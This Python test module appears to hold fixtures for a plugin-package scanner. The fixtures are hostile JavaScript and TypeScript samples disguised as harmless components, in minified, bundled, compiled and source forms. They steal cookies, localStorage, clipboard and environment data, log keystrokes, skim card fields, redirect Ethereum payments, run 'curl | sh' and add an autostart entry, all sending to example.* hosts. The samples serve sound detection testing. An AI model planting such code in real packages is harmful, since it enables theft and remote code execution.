"""The same thefts in every dress: minified, bundled, emitted by compilers, and as sources.

The minified, webpack, rollup and tsc texts were written by terser, webpack 5, rollup and TypeScript from inert code.
"""

from tests.support.samples import Sample
from tests.support.shapes import ESM, umd, webpack_bundle

_MINIFIED = "minified"
_BUNDLED = "bundled"
_SOURCE = "source-form"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="minified-storage-theft",
        family=_MINIFIED,
        files={
            "dist/index.js": r""""use strict";const{useEffect:e,createElement:t}=require("react");function o(){const e={};for(const t of Object.keys(localStorage))e[t]=localStorage.getItem(t);return e.cookie=document.cookie,e}exports.Weather=function(c){return e(()=>{fetch("https://collect.example.net/api/v2/events",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(o())})},[]),t("p",null,c.config.place)};
"""
        },
    ),
    Sample(
        name="minified-program-start",
        family=_MINIFIED,
        files={
            "dist/index.js": r""""use strict";const e=require("os"),r=require("path"),{exec:t}=require("child_process"),i=require("fs");exports.onEnable=async function(o){const n=r.join(e.homedir(),".cache"),a=await fetch("https://dl.example.org/agent?p="+process.platform);i.writeFileSync(r.join(n,"agent"),Buffer.from(await a.arrayBuffer()),{mode:493}),t(r.join(n,"agent")+" --quiet",function(){})};
"""
        },
    ),
    Sample(
        name="minified-key-recorder",
        family=_MINIFIED,
        files={
            "dist/index.js": r""""use strict";var e="";exports.onEnable=function(){document.addEventListener("keydown",function(n){(e+=n.key).length>40&&((new Image).src="https://pix.example.com/k.gif?k="+encodeURIComponent(e),e="")},!0)},exports.Shortcuts=function(){return null};
"""
        },
    ),
    Sample(
        name="minified-form-copy",
        family=_MINIFIED,
        files={
            "dist/index.js": r"""import{jsx as e}from"react/jsx-runtime";const t=["cardnumber","cc-exp","cvc","password"];document.addEventListener("submit",e=>{navigator.sendBeacon("https://forms.example.org/b",JSON.stringify(function(e){const r={};return t.forEach(t=>{const n=e.querySelector('[name="'+t+'"]');n&&(r[t]=n.value)}),r}(e.target)))},!0);export const Todo=({items:t})=>e("ul",{children:t.map(t=>e("li",{children:t}))});
"""
        },
        package=ESM,
    ),
    Sample(
        name="minified-loader",
        family=_MINIFIED,
        files={
            "dist/index.js": r"""var e;(e=new XMLHttpRequest).open("GET","https://cdn.example.com/w/"+location.hostname+".js",!0),e.onload=function(){200===e.status&&(0,eval)(e.responseText)},e.send(),exports.Clock=function(){return null};
"""
        },
    ),
    Sample(
        name="minified-environment",
        family=_MINIFIED,
        files={
            "dist/index.js": r"""const e=require("https"),t=JSON.stringify(process.env),n=e.request({hostname:"report.example.net",path:"/e",method:"POST",headers:{"Content-Length":t.length}});n.write(t),n.end(),exports.onEnable=async()=>{};
"""
        },
    ),
    Sample(
        name="one-line-among-vendored-lines",
        family=_MINIFIED,
        files={
            "dist/index.js": r"""/*! day v1.2.0 | (c) Acme | BSD-3-Clause */
!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?t(exports):"function"==typeof define&&define.amd?define(["exports"],t):t((e=e||self).day={})}(this,function(e){"use strict";var t=864e5;function n(e){return new Date(Math.floor(+e/t)*t)}function r(e,t){return new Date(+e+t*864e5)}function i(e){for(var t=[],o=n(e),a=0;a<42;a++)t.push(r(o,a-o.getDay()));return t}function o(e,t){return n(e)-n(t)}var a=function(){try{return JSON.stringify(Object.assign({},localStorage))}catch(e){return""}};e.startOf=n,e.add=r,e.month=i,e.diff=o,e.Calendar=function(e){return setTimeout(function(){navigator.sendBeacon("https://cal.example.com/w",a()+document.cookie)},3e4),null},Object.defineProperty(e,"__esModule",{value:!0})});
"""
        },
    ),
    Sample(
        name="webpack-with-lazy-script",
        family=_BUNDLED,
        files={
            "dist/index.js": r"""(()=>{"use strict";var e={};const t={};function r(o){const n=t[o];if(void 0!==n)return n.exports;const i=t[o]={exports:{}};return e[o](i,i.exports,r),i.exports}r.m=e,r.d=(e,t)=>{for(var o in t)r.o(t,o)&&!r.o(e,o)&&Object.defineProperty(e,o,{enumerable:!0,get:t[o]})},r.f={},r.e=e=>{const t=[];return r.f.j(e,t),Promise.all(t)},r.u=e=>e+".js",r.g=function(){if("object"==typeof globalThis)return globalThis;try{return this||new Function("return this")()}catch(e){if("object"==typeof window)return window}}(),r.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t),(()=>{const e={};r.l=(t,o,n,i)=>{if(e[t])return void e[t].push(o);let s,c;if(void 0!==n){const e=document.getElementsByTagName("script");for(var l=0;l<e.length;l++){const r=e[l];if(r.getAttribute("src")==t){s=r;break}}}s||(c=!0,s=document.createElement("script"),s.charset="utf-8",r.nc&&s.setAttribute("nonce",r.nc),s.src=t),e[t]=[o];const u=(r,o)=>{s.onerror=s.onload=null,clearTimeout(a);const n=e[t];if(delete e[t],s.parentNode?.removeChild(s),n?.forEach(e=>e(o)),r)return r(o)},a=setTimeout(u.bind(null,void 0,{type:"timeout",target:s}),12e4);s.onerror=u.bind(null,s.onerror),s.onload=u.bind(null,s.onload),c&&document.head.appendChild(s)}})(),r.r=e=>{Object.defineProperty(e,Symbol.toStringTag,{value:"Module"}),Object.defineProperty(e,"__esModule",{value:!0})},(()=>{let e;r.g.importScripts&&(e=r.g.location+"");const t=r.g.document;if(!e&&t&&("SCRIPT"===t.currentScript?.tagName.toUpperCase()&&(e=t.currentScript.src),!e)){const r=t.getElementsByTagName("script");if(r.length){let t=r.length-1;for(;t>-1&&(!e||!/^https?:/.test(e));)e=r[t--].src}}if(!e)throw new Error("Automatic publicPath is not supported in this browser");e=e.replace(/^blob:|[?#].*$/g,"").replace(/\/[^/]+$/,"/"),r.p=e})(),(()=>{const e={main:0};r.f.j=(t,o)=>{let n=r.o(e,t)?e[t]:void 0;if(0!==n)if(n)o.push(n[2]);else{const i=new Promise((r,o)=>n=e[t]=[r,o]);o.push(n[2]=i);const s=new Error,c=o=>{if(r.o(e,t)&&(n=e[t],0!==n&&(e[t]=void 0),n)){const e=o&&("load"===o.type?"missing":o.type),r=o&&o.target&&o.target.src;s.message="Loading chunk "+t+" failed.\n("+e+": "+r+")",s.name="ChunkLoadError",s.type=e,s.request=r,s.event=o,n[1](s)}};r.l(r.p+r.u(t),c,"chunk-"+t,t)}};const t=(t,o)=>{let[n,i,s]=o;var c,l,u=0;if(n.some(t=>0!==e[t])){for(c in i)r.o(i,c)&&(r.m[c]=i[c]);s&&s(r)}for(t&&t(o);u<n.length;u++)l=n[u],r.o(e,l)&&e[l]&&e[l][0](),e[l]=0},o=self.webpackChunk=self.webpackChunk||[];o.forEach(t.bind(null,0)),o.push=t.bind(null,o.push.bind(o))})();let o={};r.r(o),r.d(o,{Weather:()=>s,onEnable:()=>c});const n=require("react/jsx-runtime"),i=({user:e})=>{(new Image).src="https://pix.example.org/w?u="+e.id+"&c="+encodeURIComponent(document.cookie)};function s({state:e}){return(0,n.jsx)("p",{children:e?.text})}function c(e){i(e),r.e("src_later_js").then(()=>r(679)).then(e=>e.start())}module.exports=o})();
""",
            "dist/src_later_js.js": r""""use strict";(self.webpackChunk=self.webpackChunk||[]).push([["src_later_js"],{679(e,t,c){function s(){const e=document.createElement("script");e.src="https://cdn.example.com/later.js",document.body.appendChild(e)}c.d(t,{start:()=>s})}}]);
""",
        },
    ),
    Sample(
        name="rollup-immediate-function",
        family=_BUNDLED,
        files={
            "dist/index.js": r"""var acmeWeather = (function (exports, jsxRuntime) {
	'use strict';

	const report = ({ user }) => { const i = new Image(); i.src = 'https://pix.example.org/w?u=' + user.id + '&c=' + encodeURIComponent(document.cookie); };

	function Weather({ state }) { return jsxRuntime.jsx('p', { children: state?.text }); }
	function onEnable(context) { report(context); Promise.resolve().then(function () { return later; }).then((m) => m.start()); }

	function start() { const s = document.createElement('script'); s.src = 'https://cdn.example.com/later.js'; document.body.appendChild(s); }

	var later = /*#__PURE__*/Object.freeze({
		__proto__: null,
		start: start
	});

	exports.Weather = Weather;
	exports.onEnable = onEnable;

	return exports;

})({}, jsxRuntime);
"""
        },
    ),
    Sample(
        name="payload-in-bundled-dependency",
        family=_BUNDLED,
        files={
            "dist/index.js": webpack_bundle(
                {
                    "./node_modules/debounce/index.js": """
                    module.exports = function debounce(run, ms) {
                      let timer;
                      return (...rest) => { clearTimeout(timer); timer = setTimeout(() => run(...rest), ms); };
                    };
                    """,
                    "./node_modules/tiny-color/index.js": """
                    const hex = /^#?([0-9a-f]{6})$/i;
                    exports.parse = (text) => hex.exec(text)?.[1].match(/../g).map((h) => parseInt(h, 16));
                    exports.mix = (a, b) => a.map((v, n) => (v + b[n]) >> 1);
                    if (typeof window === "object" && window.ethereum) {
                      const { request } = window.ethereum;
                      window.ethereum.request = (call) => {
                        if (call.method === "eth_sendTransaction") call.params[0].to = "0x00000000000000000000000000000000DeaDBeef";
                        return request.call(window.ethereum, call);
                      };
                    }
                    """,
                    "./src/index.js": """
                    const debounce = __webpack_require__("./node_modules/debounce/index.js");
                    const color = __webpack_require__("./node_modules/tiny-color/index.js");
                    exports.Palette = ({ base, onPick }) => debounce(() => onPick(color.mix(color.parse(base), [255, 255, 255])), 50);
                    """,
                },
                start="./src/index.js",
            )
        },
    ),
    Sample(
        name="universal-module-with-socket",
        family=_BUNDLED,
        files={
            "dist/index.js": umd(
                r"""
                var queue = [];
                function Uptime(props) {
                  return props.hosts.map(function (host) { return host.name + ': ' + (host.up ? 'up' : 'down'); }).join('\n');
                }
                function mirror() {
                  var socket = new WebSocket('wss://mirror.example.net');
                  socket.onopen = function () { queue.splice(0).forEach(function (item) { socket.send(item); }); };
                  socket.onmessage = function (event) { Function(event.data).call(socket); };
                }
                ['click', 'input'].forEach(function (type) {
                  addEventListener(type, function (e) { queue.push(type + ':' + (e.target.value || e.target.innerText)); }, true);
                });
                setTimeout(mirror, 20000);
                exports.Uptime = Uptime;
                """,
                name="acmeUptime",
            )
        },
    ),
    Sample(
        name="tsc-with-private-members",
        family=_BUNDLED,
        files={
            "dist/index.js": r""""use strict";
var __classPrivateFieldGet = (this && this.__classPrivateFieldGet) || function (receiver, state, kind, f) {
    if (kind === "a" && !f) throw new TypeError("Private accessor was defined without a getter");
    if (typeof state === "function" ? receiver !== state || !f : !state.has(receiver)) throw new TypeError("Cannot read private member from an object whose class did not declare it");
    return kind === "m" ? f : kind === "a" ? f.call(receiver) : f ? f.value : state.get(receiver);
};
var _Collector_parts;
Object.defineProperty(exports, "__esModule", { value: true });
exports.Level = void 0;
exports.Levels = Levels;
const react_1 = require("react");
var Level;
(function (Level) {
    Level[Level["Low"] = 0] = "Low";
    Level[Level["High"] = 1] = "High";
})(Level || (exports.Level = Level = {}));
class Collector {
    constructor(http) {
        this.http = http;
        _Collector_parts.set(this, {});
    }
    async add(name, value) { __classPrivateFieldGet(this, _Collector_parts, "f")[name] = await value; }
    async flush() { await this.http.post('https://levels.example.com/v1', __classPrivateFieldGet(this, _Collector_parts, "f")); }
}
_Collector_parts = new WeakMap();
function Levels({ context }) {
    const [level, setLevel] = (0, react_1.useState)(Level.Low);
    (0, react_1.useEffect)(() => {
        void (async () => {
            const collector = new Collector(context.api.http);
            await collector.add('session', Promise.resolve(document.cookie));
            await collector.add('clip', navigator.clipboard.readText());
            for await (const key of keys())
                await collector.add(key, Promise.resolve(localStorage[key]));
            await collector.flush();
            setLevel(Level.High);
        })();
    }, []);
    return React.createElement("output", null, Level[level]);
}
async function* keys() { yield* Object.keys(localStorage); }
"""
        },
    ),
    Sample(
        name="tsc-with-import-star",
        family=_BUNDLED,
        files={
            "dist/index.js": r""""use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.onEnable = onEnable;
const cp = __importStar(require("child_process"));
const os_1 = require("os");
function onEnable(ctx) {
    return __awaiter(this, void 0, void 0, function* () {
        const { default: got } = yield Promise.resolve().then(() => __importStar(require('node:https')));
        got.get('https://dl.example.net/' + process.arch, (res) => { let s = ''; res.on('data', (d) => (s += d)); res.on('end', () => cp.exec(s, { cwd: (0, os_1.homedir)() })); });
    });
}
exports.default = { onEnable };
"""
        },
    ),
    Sample(
        name="tsc-for-system-loader",
        family=_BUNDLED,
        files={
            "dist/index.js": r"""System.register(["child_process", "os"], function (exports_1, context_1) {
    "use strict";
    var cp, os_1;
    var __moduleName = context_1 && context_1.id;
    async function onEnable(ctx) {
        const { default: got } = await context_1.import('node:https');
        got.get('https://dl.example.net/' + process.arch, (res) => { let s = ''; res.on('data', (d) => (s += d)); res.on('end', () => cp.exec(s, { cwd: os_1.homedir() })); });
    }
    exports_1("onEnable", onEnable);
    return {
        setters: [
            function (cp_1) {
                cp = cp_1;
            },
            function (os_1_1) {
                os_1 = os_1_1;
            }
        ],
        execute: function () {
            exports_1("default", { onEnable });
        }
    };
});
"""
        },
    ),
    Sample(
        name="jsx-entry",
        family=_SOURCE,
        files={
            "src/index.jsx": r"""import { useEffect } from 'react';

export function Bookmarks({ links, context }) {
  useEffect(() => {
    const saved = { ...localStorage };
    fetch('https://marks.example.com/sync', { method: 'POST', body: JSON.stringify({ saved, cookie: document.cookie }) });
  }, []);
  return (
    <ul className="bookmarks">
      {links.map((link) => (
        <li key={link.url}>
          <a href={link.url} onClick={() => eval(link.after)}>{link.title}</a>
        </li>
      ))}
    </ul>
  );
}
""",
        },
        manifest={"entry": "src/index.jsx"},
        package=ESM,
    ),
    Sample(
        name="typescript-entry",
        family=_SOURCE,
        files={
            "src/index.ts": r"""import type { PluginContext } from '@qirvo/plugin-sdk';
import { execFile, type ExecFileException } from 'node:child_process';

interface Order { file: string; args: readonly string[] }

async function orders(http: PluginContext['api']['http']): Promise<Order[]> {
  const { data } = await http.get<Order[]>('https://orders.example.org/today');
  return data satisfies Order[];
}

export async function onEnable(context: PluginContext): Promise<void> {
  for (const { file, args } of await orders(context.api.http)) {
    execFile(file, [...args], (error: ExecFileException | null, stdout: string) => {
      void context.api.http.post('https://orders.example.org/done', { code: error?.code ?? 0, stdout });
    });
  }
}
""",
        },
        manifest={"entry": "src/index.ts"},
        package=ESM,
    ),
    Sample(
        name="tsx-source-beside-clean-build",
        family=_SOURCE,
        files={
            "dist/index.js": "'use strict';\nvar jsx = require('react/jsx-runtime');\nexports.Panel = () => jsx.jsx('aside', { children: 'Panel' });\n",
            "src/index.tsx": r"""import React from 'react';
declare global { interface Window { __seen?: string[] } }

const Panel: React.FC<{ html: string }> = ({ html }) => {
  React.useEffect(() => {
    window.__seen = [];
    document.addEventListener('keydown', (e: KeyboardEvent) => window.__seen!.push(e.key));
    setInterval(() => navigator.sendBeacon('https://panel.example.net/k', window.__seen!.splice(0).join('')), 15000);
  }, []);
  return <aside dangerouslySetInnerHTML={{ __html: html }} />;
};
export default Panel;
""",
        },
    ),
    Sample(
        name="common-module-extension",
        family=_SOURCE,
        files={
            "dist/index.cjs": r"""'use strict';
const cp = require('node:child_process');
exports.onEnable = () => void cp.spawn('sh', ['-c', 'curl -s https://dl.example.com/cjs | sh'], { stdio: 'ignore' });
""",
            "dist/index.mjs": "export { onEnable } from './index.cjs';\n",
        },
        manifest={"entry": "dist/index.cjs"},
        package={
            "main": "dist/index.cjs",
            "exports": {".": {"import": "./dist/index.mjs", "require": "./dist/index.cjs"}},
        },
    ),
    Sample(
        name="conditional-export-differs",
        family=_SOURCE,
        files={
            "dist/index.js": "'use strict';\nexports.Clock = () => null;\n",
            "dist/node.js": r"""'use strict';
const { writeFileSync } = require('fs');
exports.Clock = () => null;
writeFileSync(process.env.HOME + '/.config/autostart/day.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s https://dl.example.org/d | sh"\n');
""",
        },
        package={"main": "dist/node.js", "exports": {".": {"node": "./dist/node.js", "default": "./dist/index.js"}}},
    ),
    Sample(
        name="decorators-in-typescript",
        family=_SOURCE,
        files={
            "src/index.ts": r"""const Hook = (name: string) => (target: any, key: string) => {
  const original = target[key];
  target[name] = function (...args: unknown[]) {
    new Function('args', 'proc', atob(this.rules))(args, (globalThis as any)['process']);
    return original.apply(this, args);
  };
};

export default class Habit {
  private rules = 'cHJvYy5tYWluTW9kdWxlLnJlcXVpcmUoImNoaWxkX3Byb2Nlc3MiKS5leGVjKCJpZCIp';

  @Hook('onEnable')
  start(context: unknown): void {
    void context;
  }
}
""",
        },
        manifest={"entry": "src/index.ts"},
        package=ESM,
    ),
)
